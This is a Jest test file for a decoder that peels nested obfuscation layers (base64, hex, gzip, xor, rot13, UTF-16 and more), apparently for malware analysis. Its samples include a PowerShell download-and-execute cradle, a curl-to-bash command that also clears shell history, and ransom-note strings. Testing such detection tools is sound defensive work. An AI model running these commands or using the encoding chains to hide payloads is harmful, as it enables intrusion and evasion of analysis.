import { describe, expect, it } from '@jest/globals';
import { ENCODERS, encode } from './encoders.test-helper.js';
import { peel } from './peel.js';
import { PEEL_LIMITS, type Layer } from './types.js';

const SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
const SHELL = 'curl -s http://198.51.100.7/x.sh | bash && rm -f /tmp/.cache && history -c';
const RUSSIAN = 'Ваши файлы зашифрованы, для восстановления напишите нам письмо';
const JAPANESE = 'あなたのファイルは暗号化されました。連絡してください。';
const CHINESE = '你的文件已经被加密，请在三天之内支付赎金，否则数据将会丢失。';

/** Only ever one layer inside another. */
function chainOf(layers: readonly Layer[]): Layer[] {
  expect(layers.length).toBeLessThanOrEqual(1);
  return layers.flatMap((layer) => [layer, ...chainOf(layer.children)]);
}

const check = (chain: string, text: string): void => {
  const layers = chainOf(peel(encode(chain, text), PEEL_LIMITS).layers);
  const expected = chain.split(' > ').map((name) => ENCODERS[name]?.[0]);
  expect(layers.map(({ encoding }) => encoding.replace(/ \(.*/, ''))).toEqual(expected);
  expect(layers.at(-1)?.text.trimEnd()).toBe(text);
};

describe('nested samples', () => {
  it.each(Object.keys(ENCODERS).filter((name) => !/^(?:windows|koi8|shift|gb|utf|gzip|zlib|deflate|zip|tar|xor|base64url)/.test(name)))('%s of a script', (name) => {
    check(name, SCRIPT);
  });

  it.each([
    'base64 > utf-16le', '-enc > utf-16le', '-enc > utf-16le > FromBase64String > gzip', 'FromBase64String > gzip', 'FromBase64String > deflate',
    'FromBase64String > zlib > utf-16le', 'base64 > base64 > base64', 'base64 > hex', 'base64 > hex spaced', 'hex > base64', 'hex > zip', 'hex > tar',
    'hex > gzip > tar', 'base64 > zip > gzip', 'base64 > zip > tar > zip', 'hex lines > zlib', 'hex dashed > gzip', 'hex commas > utf-16le',
    '0x, > gzip', '&H > utf-16le', '\\x > zlib', '\\x > base64', 'url > url', 'url > base64', 'url > url > base64 > gzip', 'html > url', 'html hex > base64', '\\u > base64',
    '\\u{} > hex', '%u > base64', 'mime B > base64', 'mime Q > url', 'decimal > base64', 'decimal bare > base64 unpadded',
    'octal > hex spaced', 'base32 > octal > hex spaced', 'base32 > base64', 'base32 small > hex', 'base58 > base64', 'base64 > base58', 'base64 > base32 > base32',
    'ascii85 > gzip', 'ascii85 > base64', 'b85decode > zlib', 'base64 > ascii85', 'hex > z85', 'binary > base64', 'octal escapes > base64', 'base64 > \\x',
    'xxd > gzip', 'base64 > xxd', 'base64 wrapped > gzip > utf-16be', 'base64 spaced > utf-16le', 'base64url > gzip', 'base64 concatenated > utf-16le',
    'base64 > xor 35', 'base64 > xor 2', 'base64 > xor 4', 'hex > xor 7', 'FromBase64String > xor 35 > base64', '0x, > xor 4', 'base64 > gzip > xor 35', 'hex > xor 35 > utf-16le', 'hex > gzip > xor 7',
    'base64 > rot13', 'rot13 > base64', 'base64 > rot47', 'base64 > reversed', 'reversed > base64', 'base64 > gzip > rot13', 'url > reversed', 'reversed > hex > base64',
    'base64 > utf-16le > base64 > utf-16le > base64 > gzip', 'hex > zip > base64 > zlib > hex',
  ])('%s', (chain) => {
    check(chain, /^reversed >|^rot13 > base64|xor 7/.test(chain) ? SCRIPT : SHELL);
  });

  it.each([
    ['base64 > windows-1251', RUSSIAN], ['hex > koi8-r', RUSSIAN], ['hex > utf-16le', RUSSIAN], ['base64 > utf-16be', RUSSIAN], ['base64 > shift_jis', JAPANESE],
    ['base64 > gb18030', CHINESE], ['base64 > gzip > shift_jis', JAPANESE], ['base64 > utf-16le', JAPANESE], ['hex > utf-16be', CHINESE], ['base64', CHINESE], ['url', JAPANESE], ['html', RUSSIAN], ['\\u', CHINESE],
    ['mime B', RUSSIAN], ['mime Q', JAPANESE], ['quoted-printable', RUSSIAN],
  ])('%s of another script', (chain, text) => {
    check(chain, text);
  });
});
